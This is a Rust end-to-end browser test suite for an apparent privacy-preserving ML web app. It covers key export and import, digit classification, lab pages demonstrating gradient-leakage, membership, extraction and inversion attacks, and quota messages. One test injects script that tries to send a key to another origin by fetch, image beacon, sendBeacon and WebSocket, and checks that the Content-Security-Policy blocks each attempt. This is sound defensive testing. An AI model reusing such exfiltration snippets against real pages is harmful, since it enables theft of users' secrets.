//! End-to-end: the real server, headless Chromium, the real page. Generates a key, exports it
//! passphrase-wrapped through the page's download, forgets it, imports it back, and classifies
//! digit images dropped into the page, asserting the labels.
//!
//! Needs the wasm build and Chromium, so it is `#[ignore]`d for plain `cargo test`;
//! `cargo xtask test` runs it on both paths (`VEIL_E2E_GPU=webgpu` and `VEIL_E2E_GPU=none`).

use std::time::Duration;

use anyhow::Result;
use fantoccini::Locator;
use veil::data::digits;
use veil_tests::{Browser, GpuMode, digit_png, start_server, start_server_with_quotas};

const LONG: Duration = Duration::from_secs(180);

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs the built wasm client and Chromium: run by `cargo xtask test`"]
async fn key_round_trip_and_local_classification() -> Result<()> {
    let mode = GpuMode::from_env();
    let server = start_server().await?;
    let addr = server.addr;
    let browser = Browser::start(mode).await?;
    let result = journey(&browser, &format!("http://{addr}/"), mode).await;
    if result.is_err() {
        let _ = browser
            .screenshot(&format!("failure-{}", mode.expected_backend()))
            .await;
    }
    browser.close().await?;
    result
}

async fn journey(b: &Browser, url: &str, mode: GpuMode) -> Result<()> {
    let c = &b.client;
    c.goto(url).await?;
    b.wait_backend(mode, LONG).await?;

    // Generate a key.
    c.find(Locator::Id("key-name")).await?.clear().await?;
    c.find(Locator::Id("key-name"))
        .await?
        .send_keys("e2e key")
        .await?;
    c.find(Locator::Id("generate")).await?.click().await?;
    let fp = b
        .wait_for(
            "a fingerprint",
            "return document.getElementById('fingerprint').dataset.fingerprint;",
            LONG,
        )
        .await?;
    let fp = fp.as_str().unwrap_or_default().to_owned();
    assert_eq!(fp.len(), 19, "fingerprint {fp:?}");

    // Export it with a passphrase: the page downloads a wrapped key file.
    c.find(Locator::Id("export-pass"))
        .await?
        .send_keys("a long passphrase")
        .await?;
    c.find(Locator::Id("export")).await?.click().await?;
    let path = b.wait_for_download(LONG).await?;
    let text = std::fs::read_to_string(&path)?;
    let file = veil::crypto::keyfile::KeyFile::from_json(&text)?;
    assert!(
        file.is_wrapped(),
        "the exported file must be passphrase-wrapped"
    );
    assert_eq!(file.fingerprint, fp);
    assert_eq!(file.name, "e2e key");
    assert!(file.unlock(Some("a long passphrase")).is_ok());

    // Forget it, then a wrong passphrase is refused in the page, and the right one restores it.
    c.find(Locator::Id("forget")).await?.click().await?;
    b.wait_for(
        "the key to be forgotten",
        "return document.getElementById('fingerprint').dataset.fingerprint === '';",
        LONG,
    )
    .await?;
    c.find(Locator::Id("import-file"))
        .await?
        .send_keys(&path.display().to_string())
        .await?;
    c.find(Locator::Id("import-pass"))
        .await?
        .send_keys("not it")
        .await?;
    c.find(Locator::Id("import")).await?.click().await?;
    let msg = b
        .wait_for(
            "the import error",
            "const m = document.getElementById('keys-message'); return m.classList.contains('error') ? m.textContent : null;",
            LONG,
        )
        .await?;
    assert!(
        msg.as_str().unwrap_or("").contains("wrong passphrase"),
        "{msg}"
    );
    c.find(Locator::Id("import-pass")).await?.clear().await?;
    c.find(Locator::Id("import-pass"))
        .await?
        .send_keys("a long passphrase")
        .await?;
    c.find(Locator::Id("import")).await?.click().await?;
    let restored = b
        .wait_for(
            "the imported fingerprint",
            "return document.getElementById('fingerprint').dataset.fingerprint;",
            LONG,
        )
        .await?;
    assert_eq!(restored, fp);

    // Classify the model card's reference digits, dropped into the page as 64×64 PNG files: the
    // page makes each into a UCI-style digit (veil::data::handwriting::uci_digit) and must give
    // the native model's answer on the same file read the same way, for every one (right or
    // wrong), and so be right as often as it is natively.
    let card = veil::nn::model::demo::card();
    let (_, test) = digits().split(card.split.0, card.split.1);
    let dir = tempfile::tempdir()?;
    let device = veil::burn::tensor::Device::flex();
    let model = card.config.load(veil::nn::model::demo::WEIGHTS, &device)?;
    let mut native = Vec::new();
    for &i in &card.reference_indices {
        let png = dir.path().join(format!("digit-{i}.png"));
        digit_png(test.image(i), 8, &png)?;
        let img = image::open(&png)?.to_luma8();
        let luma: Vec<f32> = img.pixels().map(|p| f32::from(p.0[0]) / 255.0).collect();
        let (digit, _) =
            veil::data::handwriting::uci_digit(&luma, img.width() as usize, img.height() as usize)?;
        let one = veil::data::ImageDataset::new(
            digit.to_vec(),
            vec![0],
            veil::data::ImageShape::new(1, 8, 8),
            card.classes.clone(),
        )?;
        let logits = veil::nn::train::predict_logits(&model, &one, &device);
        native.push(veil::nn::train::argmax_rows(&logits, card.classes.len())[0]);
    }
    let mut correct = 0;
    for (r, &i) in card.reference_indices.iter().enumerate() {
        let png = dir.path().join(format!("digit-{i}.png"));
        c.execute(
            "document.getElementById('prediction').dataset.label = '';",
            vec![],
        )
        .await?;
        let input = c.find(Locator::Id("image-file")).await?;
        input.send_keys(&png.display().to_string()).await?;
        let label = b
            .wait_for(
                "a prediction",
                "return document.getElementById('prediction').dataset.label || null;",
                LONG,
            )
            .await?;
        assert_eq!(
            label.as_str().unwrap_or(""),
            native[r].to_string(),
            "test image {i}: the page predicted {label}, natively {}",
            native[r]
        );
        correct += usize::from(native[r] == test.labels[i]);
        // Reset the input so the next file fires `change`.
        c.execute("document.getElementById('image-file').value = '';", vec![])
            .await?;
    }
    // Draw a "1" on the pad (a vertical stroke) and classify the drawing: the page turns it into a
    // 32×32 bitmap and counts set pixels in 4×4 blocks, as the UCI data was made.
    c.execute(
        "const pad = document.getElementById('pad'); const r = pad.getBoundingClientRect(); \
         const ev = (type, y) => pad.dispatchEvent(new PointerEvent(type, { pointerId: 1, bubbles: true, \
           clientX: r.left + r.width * 0.5, clientY: r.top + r.height * y })); \
         ev('pointerdown', 0.15); for (let y = 0.15; y <= 0.85; y += 0.05) ev('pointermove', y); ev('pointerup', 0.85); \
         document.getElementById('prediction').dataset.label = '';",
        vec![],
    )
    .await?;
    c.find(Locator::Id("classify-drawing"))
        .await?
        .click()
        .await?;
    let drawn = b
        .wait_for(
            "the drawing's prediction",
            "return document.getElementById('prediction').dataset.label || null;",
            LONG,
        )
        .await?;
    assert_eq!(drawn, "1", "a vertical stroke was read as {drawn}");

    let native_correct = native
        .iter()
        .zip(&card.reference_indices)
        .filter(|(p, i)| **p == test.labels[**i])
        .count();
    assert_eq!(correct, native_correct);
    assert!(correct >= 15, "{correct}/16 reference digits right");
    b.screenshot(&format!("home-{}", mode.expected_backend()))
        .await?;
    Ok(())
}

/// The gradient-leakage lab page: a short attack on plain training converges (the streamed PSNR
/// rises to an exact-looking reconstruction), one on encrypted training recovers the ciphertext
/// and nothing more of the digit, and a bad setting is reported in the page.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs Chromium: run by `cargo xtask test`"]
async fn leakage_lab_streams_a_converging_attack() -> Result<()> {
    let mode = GpuMode::from_env();
    let server = start_server().await?;
    let addr = server.addr;
    let browser = Browser::start(mode).await?;
    let result = leakage_journey(&browser, &format!("http://{addr}/leakage.html"), mode).await;
    if result.is_err() {
        let _ = browser
            .screenshot(&format!("failure-leakage-{}", mode.expected_backend()))
            .await;
    }
    browser.close().await?;
    result
}

async fn leakage_journey(b: &Browser, url: &str, mode: GpuMode) -> Result<()> {
    let c = &b.client;
    c.goto(url).await?;
    b.wait_for(
        "the lab to load",
        "return document.body.dataset.state === 'idle' || document.body.dataset.state === 'failed' ? document.body.dataset.state : null;",
        LONG,
    )
    .await
    .and_then(|s| {
        anyhow::ensure!(s == "idle", "the lab did not load: {s}");
        Ok(())
    })?;
    let run = |training: &'static str| async move {
        c.find(Locator::Css("#samples button[data-id='5']"))
            .await?
            .click()
            .await?;
        c.find(Locator::Id(&format!("training-{training}")))
            .await?
            .click()
            .await?;
        let it = c.find(Locator::Id("iterations")).await?;
        it.clear().await?;
        it.send_keys("200").await?;
        c.find(Locator::Id("start")).await?.click().await?;
        let end = b
            .wait_for(
                "the attack to end",
                "const s = document.body.dataset.state; return ['done', 'failed', 'cancelled'].includes(s) ? s : null;",
                LONG,
            )
            .await?;
        anyhow::ensure!(
            end == "done",
            "the attack ended {end}: {}",
            c.find(Locator::Id("message")).await?.text().await?
        );
        let points = c
            .execute(
                "return window.veilLeakage.history.map(p => [p.psnr_vs_input, p.psnr_vs_plaintext]);",
                vec![],
            )
            .await?;
        let points: Vec<(f64, f64)> = serde_json::from_value(points)?;
        let cipher = c
            .execute(
                "return window.veilLeakage.info.samples[5].ciphertext_psnr;",
                vec![],
            )
            .await?
            .as_f64()
            .unwrap_or(f64::NAN);
        anyhow::Ok((points, cipher))
    };

    let (plain, _) = run("plain").await?;
    assert!(plain.len() >= 30, "{} points streamed", plain.len());
    let (first, last) = (plain[0].0, plain[plain.len() - 1].0);
    assert!(
        last >= 25.0 && last > first + 10.0,
        "PSNR went from {first} to {last} dB"
    );
    b.screenshot(&format!("leakage-plain-{}", mode.expected_backend()))
        .await?;

    let (enc, cipher) = run("encrypted").await?;
    let (vs_input, vs_plain) = enc[enc.len() - 1];
    assert!(
        vs_input >= 25.0,
        "the ciphertext was not recovered: {vs_input} dB"
    );
    assert!(
        vs_plain <= cipher + 1.0,
        "{vs_plain} dB against the digit, the ciphertext itself {cipher} dB"
    );
    b.screenshot(&format!("leakage-encrypted-{}", mode.expected_backend()))
        .await?;

    // The analytic attack needs the MLP; the page switches to it, and the attack is exact.
    c.find(Locator::Css("#method option[value='analytic']"))
        .await?
        .click()
        .await?;
    c.find(Locator::Id("training-plain")).await?.click().await?;
    c.find(Locator::Id("start")).await?.click().await?;
    let psnr = b
        .wait_for(
            "the analytic attack",
            "return document.body.dataset.state === 'done' ? Number(document.getElementById('psnr-input').dataset.value) : null;",
            LONG,
        )
        .await?;
    assert!(psnr.as_f64().unwrap_or(0.0) >= 60.0, "analytic: {psnr}");
    Ok(())
}

/// The RTAS lab page: a run of the four parties shows P1's share of P0's digits, the helper's
/// vector and the answer, with bytes on every link. The page uses no WebGPU, so it runs on the
/// CPU pass only.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs Chromium: run by `cargo xtask test`"]
async fn rtas_lab_shows_every_partys_view() -> Result<()> {
    let mode = GpuMode::from_env();
    if mode == GpuMode::Webgpu {
        eprintln!("the RTAS page uses no WebGPU: checked on the CPU pass only");
        return Ok(());
    }
    let server = start_server().await?;
    let addr = server.addr;
    let browser = Browser::start(mode).await?;
    let result = rtas_journey(&browser, &format!("http://{addr}/rtas.html")).await;
    if result.is_err() {
        let _ = browser.screenshot("failure-rtas").await;
    }
    browser.close().await?;
    result
}

async fn rtas_journey(b: &Browser, url: &str) -> Result<()> {
    let c = &b.client;
    c.goto(url).await?;
    let s = b
        .wait_for(
            "the lab to load",
            "const s = document.body.dataset.state; return s === 'ready' || s === 'failed' ? s : null;",
            LONG,
        )
        .await?;
    anyhow::ensure!(s == "ready", "the lab did not load: {s}");
    let picked = c
        .execute("return window.veilRtas.picked.length;", vec![])
        .await?;
    assert_eq!(picked, 4);
    c.find(Locator::Id("start")).await?.click().await?;
    let end = b
        .wait_for(
            "the run to end",
            "const s = document.body.dataset.state; return ['done', 'failed'].includes(s) ? s : null;",
            LONG,
        )
        .await?;
    anyhow::ensure!(
        end == "done",
        "the run ended {end}: {}",
        c.find(Locator::Id("message")).await?.text().await?
    );
    // P1's view holds the share of P0's digits; the helper's card its reconstruction.
    let p1 = c
        .find(Locator::Css("#view-p1 .capture[data-message='Share']"))
        .await?;
    assert!(p1.text().await?.contains("from p0"));
    let helper = c.find(Locator::Id("helper-caption")).await?.text().await?;
    assert!(helper.contains("720 values"), "{helper}");
    // Every link carried bytes; the dealer and the helper never talk.
    let bytes = |from: &str, to: &str| {
        format!(
            "return Number(document.querySelector(\"#traffic td[data-from='{from}'][data-to='{to}']\").dataset.bytes);"
        )
    };
    for (from, to) in [
        ("p0", "p1"),
        ("p1", "p0"),
        ("dealer", "p1"),
        ("p1", "helper"),
    ] {
        let n = c
            .execute(&bytes(from, to), vec![])
            .await?
            .as_f64()
            .unwrap_or(0.0);
        assert!(n > 0.0, "{from}→{to} carried {n} bytes");
    }
    let n = c.execute(&bytes("dealer", "helper"), vec![]).await?;
    assert_eq!(n.as_f64(), Some(0.0));
    let answers = c.find(Locator::Id("result")).await?.text().await?;
    assert_eq!(answers.matches("clear:").count(), 4, "{answers}");
    b.screenshot("rtas").await?;
    Ok(())
}

/// The Content-Security-Policy enforces the invariant in the browser: on the page that holds the
/// keys, a script that tries to send something to another origin (`fetch`, an image beacon,
/// `sendBeacon`, a WebSocket) is stopped by the browser, and nothing reaches the other origin,
/// while requests to Veil's own server still work.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs Chromium: run by `cargo xtask test`"]
async fn the_browser_blocks_sending_to_another_origin() -> Result<()> {
    let mode = GpuMode::from_env();
    let server = start_server().await?;
    let addr = server.addr;
    // Another origin (another port): it records any connection that reaches it.
    let other = std::net::TcpListener::bind("127.0.0.1:0")?;
    other.set_nonblocking(true)?;
    let other_url = format!("http://127.0.0.1:{}/collect", other.local_addr()?.port());
    let browser = Browser::start(mode).await?;
    let result = csp_journey(&browser, &format!("http://{addr}/keys.html"), &other_url).await;
    if result.is_err() {
        let _ = browser
            .screenshot(&format!("failure-csp-{}", mode.expected_backend()))
            .await;
    }
    browser.close().await?;
    result?;
    match other.accept() {
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => Ok(()),
        Ok((_, from)) => anyhow::bail!("the other origin received a connection from {from}"),
        Err(e) => Err(e.into()),
    }
}

async fn csp_journey(b: &Browser, url: &str, other: &str) -> Result<()> {
    let c = &b.client;
    c.goto(url).await?;
    b.wait_for(
        "the page to load",
        "return document.readyState === 'complete' ? true : null;",
        LONG,
    )
    .await?;
    let out = c
        .execute_async(
            r#"
            const [other, done] = arguments;
            (async () => {
              const violations = [];
              document.addEventListener('securitypolicyviolation',
                (e) => violations.push(e.effectiveDirective));
              const tryIt = async (f) => { try { await f(); return 'sent'; } catch (e) { return `blocked (${e.name})`; } };
              const fetched = await tryIt(() => fetch(other, { method: 'POST', body: 'a key', mode: 'no-cors' }));
              const image = await new Promise((resolve) => {
                const i = new Image();
                i.onload = () => resolve('loaded');
                i.onerror = () => resolve('blocked');
                i.src = `${other}.png?key=secret`;
              });
              let beacon;
              try { beacon = navigator.sendBeacon(other, 'a key') ? 'queued' : 'refused'; } catch (e) { beacon = `blocked (${e.name})`; }
              const socket = await tryIt(() => new Promise((resolve, reject) => {
                const ws = new WebSocket(other.replace('http', 'ws'));
                ws.onopen = resolve;
                ws.onerror = () => reject(new Error('socket'));
              }));
              const own = (await fetch('/api/health')).status;
              await new Promise((r) => setTimeout(r, 500));
              done({ fetched, image, beacon, socket, own, violations });
            })();
            "#,
            vec![serde_json::json!(other)],
        )
        .await?;
    eprintln!("cross-origin attempts: {out}");
    assert!(
        out["fetched"].as_str().unwrap_or("").starts_with("blocked"),
        "{out}"
    );
    assert_eq!(out["image"], "blocked", "{out}");
    assert!(
        out["socket"].as_str().unwrap_or("").starts_with("blocked"),
        "{out}"
    );
    assert_eq!(out["own"], 200, "{out}");
    let violations: Vec<String> = serde_json::from_value(out["violations"].clone())?;
    assert!(violations.iter().any(|v| v == "connect-src"), "{out}");
    assert!(violations.iter().any(|v| v == "img-src"), "{out}");
    Ok(())
}

/// The black-box page attacks the built-in model and shows what the server's run measured: the
/// membership AUC on the page is the run's, extraction's agreement grows with the queries, and
/// inversion draws each class's mean beside its inversion with the run's count of classes
/// identified.
#[tokio::test]
#[ignore = "needs headless Chromium and chromedriver (cargo xtask test)"]
async fn blackbox_lab_shows_membership_extraction_and_inversion() -> Result<()> {
    let mode = GpuMode::from_env();
    if mode == GpuMode::Webgpu {
        eprintln!("the black-box page uses no WebGPU: checked on the CPU pass only");
        return Ok(());
    }
    let server = start_server().await?;
    let addr = server.addr;
    let browser = Browser::start(mode).await?;
    let result = blackbox_journey(&browser, addr).await;
    if result.is_err() {
        let _ = browser.screenshot("failure-blackbox").await;
    }
    browser.close().await?;
    result
}

async fn blackbox_journey(b: &Browser, addr: std::net::SocketAddr) -> Result<()> {
    let c = &b.client;
    open_blackbox_lab(b, addr).await?;
    let ended = LAB_ENDED;
    for attack in ["membership", "extraction", "inversion"] {
        c.execute(
            &format!("document.getElementById('model').value = 'digits-cnn'; document.getElementById('attack').value = '{attack}';"),
            vec![],
        )
        .await?;
        c.find(Locator::Id("start")).await?.click().await?;
        let end = b
            .wait_for(&format!("the {attack} attack to end"), ended, LONG)
            .await?;
        anyhow::ensure!(
            end == "done",
            "{attack} ended {end}: {}",
            c.find(Locator::Id("message")).await?.text().await?
        );
        let run = c
            .execute("return document.body.dataset.run;", vec![])
            .await?;
        let run = run.as_str().unwrap_or_default().to_owned();
        let view: serde_json::Value =
            reqwest::get(format!("http://{addr}/api/blackbox/attacks/{run}"))
                .await?
                .json()
                .await?;
        let events = view["events"].as_array().cloned().unwrap_or_default();
        if attack == "membership" {
            let auc = events
                .iter()
                .find(|e| e["event"] == "membership")
                .and_then(|e| e["auc"].as_f64())
                .ok_or_else(|| anyhow::anyhow!("no membership event: {view}"))?;
            let shown = c.find(Locator::Id("auc")).await?.text().await?;
            assert_eq!(shown, format!("{auc:.3}"));
            assert!((0.0..=1.0).contains(&auc));
        } else if attack == "inversion" {
            let inverted: Vec<&serde_json::Value> =
                events.iter().filter(|e| e["event"] == "inverted").collect();
            assert_eq!(inverted.len(), 10, "{view}");
            let identified = inverted
                .iter()
                .filter(|e| e["nearest_class"] == e["class"])
                .count();
            let shown = c.find(Locator::Id("identified")).await?.text().await?;
            assert_eq!(shown, format!("{identified} of 10"));
            assert!(identified >= 8, "{identified} of 10 classes identified");
            let figures = c
                .execute(
                    "return document.querySelectorAll('#inversions figure canvas').length;",
                    vec![],
                )
                .await?;
            assert_eq!(figures, 20, "a class mean and an inversion per class");
        } else {
            let points: Vec<f64> = events
                .iter()
                .filter(|e| e["event"] == "point")
                .filter_map(|e| e["agreement"].as_f64())
                .collect();
            assert_eq!(points.len(), 6, "{view}");
            assert!(points[5] > points[0], "agreement {points:?}");
            let shown = c.find(Locator::Id("q800")).await?.text().await?;
            assert!(
                shown.contains(&format!("agreement {:.1} %", 100.0 * points[5])),
                "{shown}"
            );
        }
    }
    b.screenshot("blackbox").await?;
    Ok(())
}

/// Past the owner's attack quota (one a minute here), the page says which quota and when to try
/// again: the 429's message, not a bare status.
#[tokio::test]
#[ignore = "needs headless Chromium and chromedriver (cargo xtask test)"]
async fn a_page_past_its_quota_says_which_and_when_to_retry() -> Result<()> {
    let mode = GpuMode::from_env();
    if mode == GpuMode::Webgpu {
        eprintln!("quota messages use no WebGPU: checked on the CPU pass only");
        return Ok(());
    }
    let server = start_server_with_quotas(veil_server::factory::quotas::Quotas {
        attacks_per_minute: 1,
        ..Default::default()
    })
    .await?;
    let addr = server.addr;
    let browser = Browser::start(mode).await?;
    let result = quota_journey(&browser, addr).await;
    if result.is_err() {
        let _ = browser.screenshot("failure-quota").await;
    }
    browser.close().await?;
    result
}

async fn quota_journey(b: &Browser, addr: std::net::SocketAddr) -> Result<()> {
    let c = &b.client;
    open_blackbox_lab(b, addr).await?;
    let ended = LAB_ENDED;
    c.find(Locator::Id("start")).await?.click().await?;
    let first = b.wait_for("the first attack to end", ended, LONG).await?;
    assert_eq!(first, "done");
    c.find(Locator::Id("start")).await?.click().await?;
    let second = b
        .wait_for("the second attack to be refused", ended, LONG)
        .await?;
    let message = c.find(Locator::Id("message")).await?.text().await?;
    assert_eq!(second, "failed", "{message}");
    assert!(
        message.contains("this owner has 1 of 1 attacks started a minute: retry in"),
        "{message}"
    );
    Ok(())
}

/// A lab page's state once its run has ended, or null.
const LAB_ENDED: &str =
    "const s = document.body.dataset.state; return ['done', 'failed'].includes(s) ? s : null;";

/// Opens the black-box lab and waits until it has listed its models.
async fn open_blackbox_lab(b: &Browser, addr: std::net::SocketAddr) -> Result<()> {
    b.client
        .goto(&format!("http://{addr}/blackbox.html"))
        .await?;
    b.wait_for(
        "the lab to load",
        "return document.body.dataset.state === 'ready' ? true : null;",
        LONG,
    )
    .await?;
    Ok(())
}
